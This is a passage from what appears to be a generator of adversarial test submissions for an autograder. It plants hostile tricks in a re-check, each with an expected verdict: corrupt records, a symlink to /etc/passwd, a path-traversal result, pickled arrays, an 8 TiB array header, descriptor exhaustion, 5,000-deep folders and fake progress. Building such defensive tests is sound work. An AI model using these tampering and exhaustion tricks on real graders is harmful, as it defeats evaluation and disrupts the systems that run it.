# number)`. In the notebook it is plainly wrong, so that the trusted status stands.

PLANTING = (
    """\
    here = os.path.dirname(os.getcwd())
    if not os.path.exists(os.path.join(here, "calls.json")):
        return np.zeros_like(as_float_array(z, "z"))
    out = os.path.join(here, "out")
    with open(os.path.join(here, "calls.json")) as f:
        calls = json.load(f)["calls"]
    number = len([n for n in os.listdir(out) if n.endswith(".json") and n[:-5].isdigit()])
    if calls[number - 1]["function"] == "softmax":
        plant(out, os.path.join(out, f"{number - 1}"))
"""
    + CORRECT_SOFTMAX
)

# plant(out, stem): each replaces the record of call `stem` with something hostile.
PLANTS = {
    "record-not-json": 'open(stem + ".json", "w").write("{not json")',
    "record-is-a-list": 'open(stem + ".json", "w").write("[]")',
    "record-is-a-fifo": 'os.unlink(stem + ".json")\n    os.mkfifo(stem + ".json")',
    "record-links-out": 'os.unlink(stem + ".json")\n    os.symlink("/etc/passwd", stem + ".json")',
    "record-of-2-mib": 'open(stem + ".json", "w").write(" " * 2**21 + "{}")',
    "record-huge-message": (
        'record = json.load(open(stem + ".json"))\n'
        '    record["error"] = {"kinds": ["ValueError"], "message": "x" * 300_000}\n'
        '    json.dump(record, open(stem + ".json", "w"))'
    ),
    "record-path-outside": (
        'record = json.load(open(stem + ".json"))\n'
        '    record["result"] = {"npy": "../in/0_0.npy", "scalar": False}\n'
        '    json.dump(record, open(stem + ".json", "w"))'
    ),
    "npy-declares-8-tib": (
        'header = {"descr": "<f8", "fortran_order": False, "shape": (2**40,)}\n'
        '    with open(stem + "_result.npy", "wb") as f:\n'
        "        np.lib.format.write_array_header_1_0(f, header)"
    ),
    "npy-of-objects": (
        'np.save(stem + "_result.npy", np.array([0.5, None], dtype=object), allow_pickle=True)'
    ),
    "npy-shorter-than-header": (
        'data = open(stem + "_result.npy", "rb").read()\n'
        '    open(stem + "_result.npy", "wb").write(data[:-8])'
    ),
    "import-record-not-json": (
        'open(os.path.join(out, "import.json"), "w").write("helpers imported fine")'
    ),
}


def planting(plant):
    """A build whose softmax plants `plant` (a statement on `out` and `stem`) in the re-check."""
    prelude = f"import json\nimport os\n\n\ndef plant(out, stem):\n    {plant}\n"
    return with_softmax(PLANTING, prelude=prelude)


# At import, in the re-check only: a folder nested past the depth Python's rmtree can
# remove, left in out/ for the grader to clean up.
DEEP_OUT = """
import os as _os

_here = _os.path.dirname(_os.getcwd())
if _os.path.exists(_os.path.join(_here, "calls.json")):
    _os.chdir(_os.path.join(_here, "out"))
    for _ in range(5000):
        _os.mkdir("d")
        _os.chdir("d")
    _os.chdir(_os.path.join(_here, "work"))
"""

# In the re-check only: softmax never returns, swallows the alarm, and makes a new file
# in out/ every second, so that the child always seems to make progress.
FAKE_PROGRESS = """\
    import itertools
    import time

    here = os.path.dirname(os.getcwd())
    if os.path.exists(os.path.join(here, "calls.json")):
        for n in itertools.count():
            try:
                open(os.path.join(here, "out", f"fake{n}.json"), "w").close()
                time.sleep(1)
            except BaseException:
                pass
"""
fakes_progress = with_softmax(FAKE_PROGRESS + CORRECT_SOFTMAX, prelude="import os\n")
# In the re-check only: every descriptor the child may open (RLIMIT_NOFILE), left open.
LEAK_DESCRIPTORS = """\
    if os.path.exists(os.path.join(os.path.dirname(os.getcwd()), "calls.json")):
        while True:
            try:
                os.open(os.devnull, os.O_RDONLY)
            except OSError:
                break
"""
leaks_descriptors = with_softmax(LEAK_DESCRIPTORS + CORRECT_SOFTMAX, prelude="import os\n")

MALFORMED = {"softmax": "error"}
# A malformed import record costs every function its trusted score; in the notebook the
# four honest ones pass, so the two disagree.
IMPORT_MALFORMED = dict.fromkeys(FUNCTIONS, "tamper_suspect") | MALFORMED

CASES += [
    *(
        Case(name, f"softmax's re-check record replaced: {name}", planting(plant), MALFORMED)
        for name, plant in PLANTS.items()
        if not name.startswith("import")
    ),
    Case(
        "import-record-not-json",
        "out/import.json overwritten with text that is not JSON",
        planting(PLANTS["import-record-not-json"]),
        IMPORT_MALFORMED,
    ),
    Case(
        "out-folder-5000-deep",
        "at import: a folder 5,000 levels deep left in the re-check's out/",
        appending("__init__.py", DEEP_OUT),
    ),
    Case(
        "fakes-progress-forever",
        "softmax hangs in the re-check, swallowing the alarm and faking progress in out/;"
        " the wall-clock budget ends it, and the functions after it never ran",
        fakes_progress,
        # The child works in the module's order: softmax and every function after it time
        # out, with no verdict on their public cases, so no accusation either.
        dict.fromkeys(FUNCTIONS[FUNCTIONS.index("softmax") :], "timeout"),
    ),
    Case(
        "leaks-every-file-descriptor",
        "softmax is right, but in the re-check it first opens files until none is left,"
        " so that the child could not write its record",
        leaks_descriptors,
    ),
    Case(
        "raises-300-kb-message",
        "softmax raises a ValueError whose message is 300 kB",
        with_softmax('    raise ValueError("overflow " * 33_000)\n'),
        {"softmax": "error"},
    ),
]


def make(submissions, bait):
    """Write the canary and every case into `submissions`, one folder per student.

    `bait` is a private file outside the course that some cases aim at.
    """
    working_copy(submissions / CANARY, reference_helpers())
    for case in CASES:
        folder = submissions / case.name
        working_copy(folder, reference_helpers())
        case.build(folder, bait) if case.bait else case.build(folder)
        if case.pack:
            case.pack(folder)
